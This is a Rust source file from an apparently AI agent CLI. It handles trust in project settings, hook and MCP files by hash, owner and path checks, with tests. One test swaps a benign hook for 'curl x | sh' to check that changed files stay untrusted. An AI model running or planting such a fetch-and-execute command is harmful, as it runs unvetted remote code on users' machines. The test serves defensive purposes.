//! A project's settings file, and whether its words may count.
//!
//! A repository can bring any file, so that nobody's settings change because they cloned one. A
//! file is trusted as it is: after a change it is asked about again.

use std::collections::BTreeMap;
use std::fs;
use std::io::ErrorKind;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use door_cli::{Failure, UntrustedProject};
use rustix::process::geteuid;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::Places;
use super::document::{Document, read_text, unreadable};
use super::hook_sets::HooksFile;
use super::mcp::ServersFile;
use super::permissions;
use crate::policy::failure;

/// A project's file.
#[derive(Clone, Debug)]
pub(crate) struct Project {
    /// Where it is.
    pub(crate) path: PathBuf,
    /// Its text, as it was read once.
    pub(crate) text: String,
    /// What it says.
    pub(crate) document: Document,
    /// Whether somebody trusted it as it is.
    pub(crate) is_trusted: bool,
    /// What is wrong with a file that nobody trusts; nothing of it holds then.
    pub(crate) mistake: Option<String>,
}

/// What was trusted: paths with the hash of what the file held then.
#[derive(Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Trusted {
    files: BTreeMap<PathBuf, String>,
}

impl Project {
    /// Finds the file of the working folder, or of the nearest folder above up to the top of its
    /// repository.
    ///
    /// # Errors
    /// When the file is trusted and wrong. One that is not trusted may be a stranger's, whose
    /// mistakes must not stop anybody: what is wrong with it is told in the value.
    pub(crate) fn find(places: &Places, is_trusted: bool) -> Result<Option<Self>, Failure> {
        let Some(path) = locate(places, &places.cwd, FILE) else { return Ok(None) };
        let read = read_text(&path).map_err(|error| unreadable(&path, &error));
        let is_trusted = is_trusted
            || match &read {
                Ok(text) => self::is_trusted(places, &path, text)?,
                Err(_) => false,
            };
        let parsed = read.and_then(|text| {
            let document = Document::parse(&text, &path)?;
            if !is_trusted {
                permissions::check_deny(&document, &path)?;
            }
            Ok((text, document))
        });
        match parsed {
            Ok((_, document)) if document == Document::default() => Ok(None),
            Ok((text, document)) => {
                Ok(Some(Self { path, text, document, is_trusted, mistake: None }))
            }
            Err(failure) if is_trusted => Err(failure),
            Err(failure) => {
                let (text, document) = (String::new(), Document::default());
                Ok(Some(Self { path, text, document, is_trusted, mistake: Some(failure.message) }))
            }
        }
    }
}

/// A project's settings, beneath its folder.
pub(super) const FILE: &str = ".narthex/config.toml";

/// Finds a project's file of that name from a folder upwards, up to the top of its repository; in
/// no repository in the folder alone, for what lies above may be anybody's.
pub(super) fn locate(places: &Places, from: &Path, name: &str) -> Option<PathBuf> {
    look(places, from, name).0
}

/// Says which files of that name were passed over on the way, one sentence each.
pub(super) fn passed_over(places: &Places, from: &Path, name: &str) -> Vec<String> {
    look(places, from, name).1
}

fn look(places: &Places, from: &Path, name: &str) -> (Option<PathBuf>, Vec<String>) {
    let top = from.ancestors().find(|folder| folder.join(".git").exists()).unwrap_or(from);
    let mut passed = Vec::new();
    for folder in from.ancestors().take_while(|folder| folder.starts_with(top)) {
        let path = folder.join(name);
        // The user's own file may lie above a project; it is no project's.
        let is_users = same(&path, &places.user)
            || same(folder, &user_home(places))
            || path.parent().is_some_and(|parent| same(parent, &places.home));
        if is_users || !path.is_file() {
            continue;
        }
        match of_folder(&path, folder) {
            Ok(real) => return (Some(real), passed),
            Err(why) => passed.push(format!("{} {why}; it was left out", path.display())),
        }
    }
    (None, passed)
}

/// Returns a file's real place, where the file is the folder's own and nobody else's.
fn of_folder(path: &Path, folder: &Path) -> Result<PathBuf, String> {
    let unclear = |error: std::io::Error| format!("cannot be looked at: {error}");
    let real = path.canonicalize().map_err(unclear)?;
    // Trust belongs to a place. A link would lend that of another folder to whoever made the link.
    if !real.starts_with(folder.canonicalize().map_err(unclear)?) {
        return Err(format!("leads out of its folder, to {}", real.display()));
    }
    let owner_of = |path: &Path| fs::metadata(path).map(|stat| stat.uid()).map_err(unclear);
    let (owner, own) = (owner_of(&real)?, geteuid().as_raw());
    // Whoever works in somebody's folder, as root does in a checkout, may be offered their file;
    // a stranger's file in a folder that all may write to is nobody's project.
    if owner != own && owner != 0 && owner != owner_of(folder)? {
        return Err(format!("belongs to another user, with the id {owner}"));
    }
    Ok(real)
}

fn user_home(places: &Places) -> PathBuf {
    places.user_home.clone().unwrap_or_default()
}

fn same(left: &Path, right: &Path) -> bool {
    match (left.canonicalize(), right.canonicalize()) {
        (Ok(left), Ok(right)) => left == right,
        _ => left == right,
    }
}

fn hash(text: &str) -> String {
    Sha256::digest(text.as_bytes()).iter().map(|byte| format!("{byte:02x}")).collect()
}

fn trust_file(places: &Places) -> PathBuf {
    places.home.join("trust.json")
}

fn read_trusted(places: &Places) -> Result<Trusted, Failure> {
    let path = trust_file(places);
    let text = match read_text(&path) {
        Ok(text) => text,
        Err(error) if error.kind() == ErrorKind::NotFound => return Ok(Trusted::default()),
        Err(error) => return Err(unreadable(&path, &error)),
    };
    serde_json::from_str(&text)
        .map_err(|error| Failure::usage(format!("{}: {error}", path.display())))
}

/// Tells whether somebody trusted a file as it is.
pub(crate) fn is_trusted(places: &Places, path: &Path, text: &str) -> Result<bool, Failure> {
    Ok(read_trusted(places)?.files.get(path) == Some(&hash(text)))
}

/// Trusts the files of a folder as they are now, settings and hooks, and returns them.
///
/// # Errors
/// When there is none, or one is wrong.
pub(crate) fn trust(places: &Places, folder: Option<&Path>) -> Result<Vec<PathBuf>, Failure> {
    let folder = match folder {
        Some(folder) => places.launched_in.join(folder),
        None => places.cwd.clone(),
    };
    let folder = folder
        .canonicalize()
        .map_err(|error| Failure::usage(format!("{}: {error}", folder.display())))?;
    let mut found = Vec::new();
    if let Some(path) = locate(places, &folder, FILE) {
        let text = read_text(&path).map_err(|error| unreadable(&path, &error))?;
        Document::parse(&text, &path)?;
        found.push((path, text));
    }
    if let Some(file) = HooksFile::find(places, &folder)? {
        file.read()?;
        found.push((file.path, file.text));
    }
    if let Some(file) = ServersFile::find(places, &folder)? {
        file.check()?;
        found.push((file.path, file.text));
    }
    if found.is_empty() {
        let mut text =
            format!("{} has no .narthex/config.toml or .mcp.json to trust", folder.display());
        for why in passed_over(places, &folder, FILE) {
            text.push_str(&format!("; {why}"));
        }
        return Err(Failure::usage(text));
    }
    trust_texts(places, found.iter().map(|(path, text)| (path.as_path(), text.as_str())))?;
    Ok(found.into_iter().map(|(path, _)| path).collect())
}

/// Trusts exactly what a person was shown. A file that has changed since is not what they saw, and
/// stays untrusted.
///
/// # Errors
/// When it cannot be kept.
pub(crate) fn trust_offered(places: &Places, offered: &UntrustedProject) -> Result<(), Failure> {
    trust_texts(places, offered.files.iter().map(|file| (file.path.as_path(), file.text.as_str())))
}

fn trust_texts<'a>(
    places: &Places,
    texts: impl Iterator<Item = (&'a Path, &'a str)>,
) -> Result<(), Failure> {
    let mut trusted = read_trusted(places)?;
    trusted.files.extend(texts.map(|(path, text)| (path.to_owned(), hash(text))));
    let json = serde_json::to_string_pretty(&trusted)
        .map_err(|error| Failure::failed(format!("write trust: {error}")))?;
    write_private(&trust_file(places), &json)
}

/// Writes a file that only its owner can read, in one step.
pub(crate) fn write_private(path: &Path, text: &str) -> Result<(), Failure> {
    narthex::governed::write_private(path, text).map_err(failure)
}

#[cfg(test)]
mod tests {
    use door_cli::Globals;

    use super::super::{Settings, Want};
    use super::*;
    use crate::Environment;

    const RULES: &str = "max_turns = 3\n[budget]\nturn_usd = 1.5\n[compaction]\nauto = false\n\
                         [permissions]\nallow = [\"run_shell(make *)\"]\n";
    const HOOKS: &str =
        "{\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"true\"}]}]}";

    struct House(tempfile::TempDir);

    impl House {
        fn new() -> Self {
            let house = Self(tempfile::tempdir().unwrap());
            fs::create_dir_all(house.path("home")).unwrap();
            fs::create_dir_all(house.path("project/.narthex")).unwrap();
            house
        }

        fn path(&self, name: &str) -> PathBuf {
            self.0.path().canonicalize().unwrap().join(name)
        }

        fn write(&self, name: &str, text: &str) {
            fs::write(self.path("project/.narthex").join(name), text).unwrap();
        }

        fn load(&self) -> Settings {
            let home = self.path("home").display().to_string();
            let environment =
                Environment::new(&self.path("project"), &[("NARTHEX_HOME", home.as_str())]);
            let globals = Globals::default();
            Settings::load(Want { globals: &globals, environment: &environment }).unwrap()
        }
    }

    #[test]
    fn exactly_what_was_offered_is_trusted() {
        let house = House::new();
        house.write("config.toml", RULES);
        house.write("hooks.json", HOOKS);
        let settings = house.load();
        let offered = settings.untrusted.clone().unwrap();
        let texts: Vec<&str> = offered.files.iter().map(|file| file.text.as_str()).collect();
        assert_eq!(texts, [RULES, HOOKS]);
        let told = offered.files.first().unwrap().summary.join("\n");
        for part in ["take 3 steps", "a turn to 1.5 dollars", "not summarise", "allow run_shell"] {
            assert!(told.contains(part), "{part}: {told}");
        }
        // What changes after the question was asked is not what the answer was about.
        house.write("hooks.json", &HOOKS.replace("true", "curl x | sh"));
        trust_offered(&settings.places, &offered).unwrap();
        let after = house.load();
        assert_eq!(after.max_turns.value, 3);
        assert!(after.hook_sets.hooks.is_empty());
        let paths: Vec<PathBuf> =
            after.untrusted.unwrap().files.into_iter().map(|file| file.path).collect();
        assert_eq!(paths, [house.path("project/.narthex/hooks.json")]);
        house.write("hooks.json", HOOKS);
        assert_eq!(house.load().hook_sets.hooks.len(), 1);
    }

    #[test]
    fn a_mistake_in_one_file_keeps_nobody_from_trusting_the_other() {
        let house = House::new();
        house.write("config.toml", "model = [");
        house.write("hooks.json", HOOKS);
        let settings = house.load();
        let offered = settings.untrusted.clone().unwrap();
        assert_eq!(offered.files.len(), 1);
        trust_offered(&settings.places, &offered).unwrap();
        assert_eq!(house.load().hook_sets.hooks.len(), 1);
        // A file of hooks that is wrong is never offered: trusted, it would stop every start.
        house.write("hooks.json", "{\"Stopp\": []}");
        let settings = house.load();
        assert!(settings.untrusted.is_none());
        assert!(settings.notices.iter().any(|it| it.contains("Stop")), "{:?}", settings.notices);
    }
}
